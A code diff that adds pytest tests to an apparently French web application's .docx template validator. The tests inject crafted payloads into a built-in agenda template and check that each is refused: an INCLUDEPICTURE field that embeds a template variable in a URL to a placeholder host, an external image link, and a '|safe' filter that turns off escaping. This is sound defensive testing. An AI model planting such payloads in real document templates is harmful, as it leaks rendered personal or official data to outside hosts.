@@ -229,3 +229,34 @@ def test_other_roles_are_refused(app, world, db_session, role):
         TemplateVersion, version.id).active
     anonymous = app.test_client()
     assert anonymous.get(PAGE).headers["Location"].startswith("/connexion")
+
+
+def _zip_with(source: bytes, name: str, transform) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(source)) as original, \
+            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as patched:
+        for item in original.infolist():
+            data = original.read(item.filename)
+            patched.writestr(item, transform(data) if item.filename == name else data)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(("name", "transform", "reason"), [
+    ("word/document.xml", lambda xml: xml.replace(
+        b"</w:body>", b'<w:p><w:r><w:instrText>INCLUDEPICTURE "http://x/{{ reference }}"'
+                      b"</w:instrText></w:r></w:p></w:body>"), "champ de liaison interdit"),
+    ("word/_rels/document.xml.rels", lambda xml: xml.replace(
+        b"</Relationships>", b'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/'
+                             b'officeDocument/2006/relationships/image" Target="http://x/p.png"'
+                             b' TargetMode="External"/></Relationships>'), "lien ou objet externe"),
+    ("word/document.xml", lambda xml: xml.replace(b"{{ circonscription }}",
+                                                  b"{{ circonscription|safe }}"), "safe"),
+])
+def test_templates_that_would_send_data_elsewhere_are_refused(settings, name, transform,
+                                                              reason):
+    from shared.domain.templates import TemplateRejected, check_template
+
+    builtin = (settings.templates_dir / "ordre_du_jour.docx").read_bytes()
+    with pytest.raises(TemplateRejected, match=reason):
+        check_template("agenda", _zip_with(builtin, name, transform))
+    check_template("agenda", builtin)  # the built-in one passes
